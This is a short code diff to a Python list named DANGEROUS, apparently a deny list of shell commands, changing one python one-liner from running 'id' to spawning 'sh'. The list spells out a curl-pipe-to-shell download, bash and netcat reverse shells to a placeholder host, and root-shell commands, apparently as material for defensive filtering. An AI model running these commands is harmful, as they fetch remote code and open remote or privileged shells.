@@ -16,7 +16,7 @@ DANGEROUS = [
     "curl -fsSL https://x.example/i.sh | sh",
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "nc -e /bin/sh 10.0.0.1 4444",
-    "python3 -c 'import os; os.system(\"id\")'",
+    "python3 -c 'import os; os.system(\"sh\")'",
     "/bin/sh -p",
     "sudo -i",
     "bash -i",
